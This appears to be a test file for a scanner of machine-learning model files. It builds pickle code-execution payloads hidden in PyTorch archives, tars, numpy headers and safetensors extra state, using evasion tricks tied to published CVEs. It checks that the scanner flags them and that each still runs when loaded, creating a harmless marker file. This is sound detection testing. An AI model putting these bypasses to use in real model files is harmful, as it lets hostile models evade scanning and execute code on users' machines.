    "of a field": b"{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }",
    "in two strings": b"{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }",
    "escaped": b"{'descr': [('a', '|\\x4f')], 'fortran_order': False, 'shape': (1,), }",
    "far behind": b"{" + b" " * 600 + b"'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    "of a field, in two strings": b"{'descr': [('a', 'obj' 'ect')], 'fortran_order': False, 'shape': (1,), }",
    "twice, in two strings": b"{'descr': '<i4', 'fortran_order': False, 'shape': (1,), 'des' 'cr': '|' 'O'}",
    "twice": b"{'descr': '<i4', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}",
}


def build_tar(**members):
    """A tar of the given members, in the format of torch before 0.1.10."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            tar_info = tarfile.TarInfo(name)
            tar_info.size = len(data)
            archive.addfile(tar_info, io.BytesIO(data))
    return buffer.getvalue()


NOTHING = build_pickle(number(0))
TAR = build_tar(storages=NOTHING + build_pickle(b"]"), tensors=NOTHING, pickle=build_pickle(SYSTEM))

# A file that a scanner did not open, or not to the end.
FILES = {
    # CVE-2025-1889: a pickle under an unknown name
    "another name": build([*records(), Member("archive/config.json", build_pickle(SYSTEM))]),
    # CVE-2025-1889
    "without a suffix": build([*records(), Member("archive/data/hook", build_pickle(SYSTEM))]),
    # CVE-2025-1944, GHSA-7q5r-7gvp-wc82: the local header names another record
    "another name in the local header": rename_record(build_archive(EVIL), b"archive/data.pkl", b"archive/datap.kl"),
    # CVE-2025-1945, GHSA-w8jq-xcqf-f792: bits that mark the record as encrypted
    "flag 0x1": build_archive(EVIL, flags=0x0809),
    "flag 0x20": build_archive(EVIL, flags=0x0828),
    "flag 0x40": build_archive(EVIL, flags=0x0848),
    # CVE-2025-10156, GHSA-mjqp-26hc-grxg: a wrong checksum
    "a wrong checksum": build_archive(EVIL, crc=0x12345678),
    # CVE-2025-10155, GHSA-jgw4-cr84-mqxg: a bare pickle named .bin
    "a bare pickle": build_pickle(SYSTEM),
    # modelscan issue 354
    "a bad record before it": build_misleading(),
    # fickling's polyglots
    "a zip behind a pickle": build_pickle(SYSTEM) + build(records()),
    "bytes before the archive": b"#!/bin/sh\n" + build_archive(EVIL),
    # GHSA-wccx-j62j-r448, picklescan's object_array.npy
    "an array of objects": build([*records(), Member("archive/a.npy", ARRAY)]),
    "an array of objects by itself": ARRAY,
    "compressed": build_archive(EVIL, method=8),
    "an archive in the archive": build([*records(), Member("archive/weights", build_archive(EVIL))]),
    "a compressed archive in the archive": build(
        [*records(), Member("archive/weights", build_archive(EVIL), method=8)]
    ),
    "TorchScript's constants": build([*records(), Member("archive/constants.pkl", build_pickle(SYSTEM))]),
    "bytes in a state_dict": build_archive(state_dict(w=tensor(), x=b"B" + struct.pack("<I", len(EVIL)) + EVIL)),
    "text in a state_dict": build_archive(state_dict(w=tensor(), x=text(EVIL.decode("latin-1")))),
    "a storage": build(records(storages={"0": EVIL})),
    "a legacy stream": legacy(EVIL, [("0", 4, bytes(16))]),
    "the first pickle of a legacy stream": build_pickle(SYSTEM + b"0" + number(0x1950A86A20F9469CFC6C))
    + legacy(EVIL, []),
    "two records of one name": build([*records(), Member("archive/data.pkl", EVIL)]),
    "truncated": build_archive(EVIL)[:-200],
    "a tar": TAR,
    **{
        f"a tar with the id of {name}": build_tar(
            storages=NOTHING + build_pickle(b"]"), tensors=NOTHING, pickle=build_pickle(body)
        )
        for name, body in IDS.items()
    },
    **{f"an archive with the id of {name}": build_archive(build_pickle(body)) for name, body in IDS.items()},
    **{f"a legacy stream with the id of {name}": legacy(build_pickle(body), []) for name, body in IDS.items()},
    "a tar, and a pickle that says no protocol": build_tar(storages=SYSTEM + b"."),
    "one of several archives": build(records()) + build_archive(EVIL) + build(records()),
    # a legacy stream with an unusual first pickle, and a pickle without a protocol opcode
    "a legacy stream with another first pickle": MAGIC
    + build_pickle(number(1001))
    + build_pickle(b"}")
    + b"N0"
    + SYSTEM
    + b"."
    + build_pickle(b"]"),
    **{
        f"a legacy stream that begins with {name}": first + b"\x80\2M\xe9\x03." + b"}." + EVIL + b"]."
        for name, first in EQUAL_NUMBERS.items()
    },
    **{
        f"an array of objects, {name}": build_numpy_file(header, build_pickle(SYSTEM))
        for name, header in HEADERS.items()
    },
    **{
        f"bytes in a state_dict that begin with {begin!r}": build_archive(
            state_dict(w=tensor(), x=short(begin + SYSTEM + b"."))
        )
        for begin in (b"K\x010", b"J\0\0\0\0000", b"M\0\0000", b"G" + bytes(8) + b"0", b"B\0\0\0\0000", b"\x8c\0000")
    },
}
ALL = {
    **{f"gadget: {name}": pickle for name, pickle in GADGETS.items()},
    **{f"in an archive: {name}": build(records(pickle)) for name, pickle in GADGETS.items()},
    **{f"flow: {name}": pickle for name, pickle in FLOWS.items()},
    **{
        f"in an archive: {name}": build(records(pickle, {"0": bytes(144)} if name.endswith("groups") else None))
        for name, pickle in FLOWS.items()
    },
    **{f"stream: {name}": pickle for name, pickle in STREAMS.items()},
    **{f"in an archive: {name}": build(records(pickle)) for name, pickle in STREAMS.items()},
    **{f"file: {name}": data for name, data in FILES.items()},
}


@pytest.mark.parametrize("kind", sorted({name.partition(":")[0] for name in ALL}))
def test_a_published_bypass_is_flagged_and_does_not_run(kind, tmp_path, in_tmp_path):
    """`unsafe-global` reports an error. No file is created, and no module is imported."""
    names = [name for name in ALL if name.startswith(f"{kind}:")]
    before = set(sys.modules)
    for index, name in enumerate(names):
        path = tmp_path / f"{index}.bin"
        path.write_bytes(ALL[name])
        (target,) = audit(Request((path.name,), values=False)).targets
        assert "unsafe-global" in {finding.rule for finding in target.findings if finding.severity is Severity.ERROR}, (
            name
        )
        assert [*tmp_path.iterdir()] == [path], name
        own_modules = ("statecli", "_compat_pickle", "encodings.")
        assert [module for module in set(sys.modules) - before if not module.startswith(own_modules)] == [], name
        path.unlink()


# DeepSpeedPlugin reads the environment and a file when created; here the plugin creates a file.
CALLS_THE_PLUGIN = """
import pickle
from accelerate.utils.dataclasses import DeepSpeedPlugin
DeepSpeedPlugin.__post_init__ = lambda self: open('PWNED', 'w')
pickle.load(open('model.bin', 'rb'))
"""
# The file sets the number of the next hook, so that the second hook of the process replaces the first.
HOOKS = """
import pickle, torch
pickle.load(open('model.bin', 'rb'))
net, ran = torch.nn.Linear(1, 1), []
for name in 'ab':
    net.register_forward_hook(lambda *_, name=name: ran.append(name))
net(torch.ones(1))
if ran == ['b']:
    open('PWNED', 'w')
"""
# `print` stands for any function that the file chooses.
CALLS_PRINT = """
import builtins, pickle, torch
builtins.print = lambda *_, **__: open('PWNED', 'w')
loaded = LOAD
if isinstance(loaded, torch.nn.Module):
    loaded(1)
"""
CALLS_IN_PICKLE = CALLS_PRINT.replace("LOAD", "pickle.load(open('model.bin', 'rb'))")
CALLS_IN_ARCHIVE = CALLS_PRINT.replace("LOAD", "torch.load('model.bin', weights_only=False)")
LOADS_PICKLE = "import pickle, torch; pickle.load(open('model.bin', 'rb'))"
LOADS_ARCHIVE = "import torch; torch.load('model.bin', weights_only=False)"
# On processors with VNNI torch uses onednn, which refuses the numbers by which fbgemm divides.
LOADS_WITH_FBGEMM = f"import torch; torch.backends.quantized.engine = 'fbgemm'; {LOADS_ARCHIVE}"
# Code that loads some payloads above, to show that the attacks work: the process creates a file, or dies.
LOADING_CODE = {
    **dict.fromkeys(
        (
            *("flow: a generator whose state is a number", "flow: a generator whose state is text"),
            *("flow: a generator whose state is too short", "flow: an object of TorchScript without one"),
            *("flow: a storage by an allocator", "flow: a tensor by its address through copyreg"),
            *("flow: a module with an interface among its buffers", "flow: objects that are told to be none"),
            *("flow: a method by another name, given an element", "flow: a file overwritten by |"),
            "flow: a file overwritten by the text of an error",
        ),
        LOADS_PICKLE,
    ),
    **dict.fromkeys(
        (
            *("flow: an optimizer of pairs, which calls a method of a module of pairs", "flow: a module of pairs"),
            *("flow: an optimizer that calls a DataParallel", "flow: modules that are ordered"),
            *("flow: a function among ordered hooks", "flow: a state that is changed afterwards"),
            "flow: a method that is set again",
        ),
        CALLS_IN_PICKLE,
    ),
    **dict.fromkeys(
        (
            *(
                "flow: a plugin called by the bits of a generator",
                "flow: a configuration called by a generator, given alone",
            ),
            "flow: a configuration called by a random state through the default",
        ),
        CALLS_THE_PLUGIN,
    ),
    "file: a tar with the id of a state": CALLS_IN_ARCHIVE,
    "in an archive: a quantized convolution of no groups": LOADS_WITH_FBGEMM,
    "in an archive: packed weights of no groups": LOADS_WITH_FBGEMM,
    "flow: a hook with the number infinity": HOOKS,
    "flow: an array of objects over bytes": "import pickle; print(pickle.load(open('model.bin', 'rb')))",
    "file: a tar": LOADS_ARCHIVE,
}
#: Payloads that end the process; the others create a file.
ENDED = {
    *("flow: a generator whose state is a number", "flow: a generator whose state is text"),
    *("flow: a generator whose state is too short", "flow: an object of TorchScript without one"),
    *("flow: a storage by an allocator", "flow: a tensor by its address through copyreg"),
    *("flow: a module with an interface among its buffers", "flow: objects that are told to be none"),
    *("in an archive: a quantized convolution of no groups", "in an archive: packed weights of no groups"),
    "flow: an array of objects over bytes",
}


def run_with_filled_memory(code, cwd):
    """Run the code in a new process whose unwritten memory never reads as zero."""
    environment = {**os.environ, "PYTHONMALLOC": "malloc", "MALLOC_PERTURB_": "165"}
    return subprocess.run([sys.executable, "-c", code], cwd=cwd, env=environment, capture_output=True, timeout=120)


@pytest.mark.parametrize("name", LOADING_CODE)
def test_flagged_file_does_harm_in_its_loader(name, tmp_path, forked_python):
    """With the installed libraries, each attack still works."""
    if "method" in name or "overwritten" in name:
        pytest.importorskip("transformers")
    if LOADING_CODE[name] == CALLS_THE_PLUGIN:
        pytest.importorskip("accelerate")
    (tmp_path / "model.bin").write_bytes(ALL[name])
    run = run_with_filled_memory if "without one" in name else forked_python
    process = run(LOADING_CODE[name], cwd=tmp_path)
    # The memory after a short tuple decides whether the process dies or Python sees the broken call.
    broken_call = "too short" in name and "returned a result with an exception set" in str(process.stderr)
    assert (tmp_path / "PWNED").exists() == (name not in ENDED)
    assert (process.returncode < 0 or broken_call) == (name in ENDED)


class _Extra(torch.nn.Linear):
    """A layer with the line of TransformerEngine that loads extra state."""

    def get_extra_state(self):
        return torch.empty(0, dtype=torch.uint8)

    def set_extra_state(self, state):
        self.extra = pickle.loads(state.detach().cpu().numpy().tobytes())


def _write_extra_state(folder, kind: str, data: bytes) -> str:
    """Write a checkpoint of a single layer in a format."""
    extra = torch.frombuffer(bytearray(data + b"." * (-len(data) % 4)), dtype=torch.uint8)
    state = {"0.weight": torch.ones(2, 2), "0.bias": torch.ones(2), "0._extra_state": extra}
    path = folder / ("model.safetensors" if kind == "safetensors" else "model.pt")
    if kind == "strided":
        state["0._extra_state"] = torch.stack((extra, extra), 1)[:, 0]
    if kind == "floats":
        state["0._extra_state"] = extra.view(torch.float32)
    if kind in ("safetensors", "floats"):
        save_file(state, path := folder / "model.safetensors")
    else:
        torch.save(state, path)
    return str(path)


@pytest.mark.parametrize("kind", ["safetensors", "floats", "torch", "strided"])
@pytest.mark.parametrize("begin", [b"N0", b"\x80\4"], ids=["protocol 0", "protocol 4"])
def test_an_extra_state_is_unpickled_in_any_format(tmp_path, in_tmp_path, kind, begin):
    """TransformerEngine calls pickle.loads on the bytes of the tensor."""
    path = _write_extra_state(tmp_path, kind, begin + b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR.")
    assert "unsafe-global" in {
        finding.rule for target in audit(Request((path,))).targets for finding in target.findings
    }
    assert not (tmp_path / "PWNED").exists()
    load = load_file if path.endswith("safetensors") else torch.load
    torch.nn.Sequential(_Extra(2, 2)).load_state_dict(load(path))
    assert (tmp_path / "PWNED").exists()


@pytest.mark.parametrize("kind", ["safetensors", "torch"])
@pytest.mark.parametrize(
    "data",
    [
        pickle.dumps({"recipe": None, "extra_fp8_variables": {"num_gemms": 1}, "history": [1.0, 2.0]}),
        b'{"format": "json, and no pickle", "values": [1, 2, 3]}',
        bytes(range(256)),
        b"\x80\4",
    ],
    ids=["a pickle", "JSON", "bytes", "two bytes"],
)
def test_ordinary_extra_state_has_no_warning(tmp_path, kind, data):
    """Other modules keep arbitrary data in the extra state."""
    (target,) = audit(Request((_write_extra_state(tmp_path, kind, data),))).targets
    assert [finding for finding in target.findings if finding.severity >= Severity.WARNING] == []
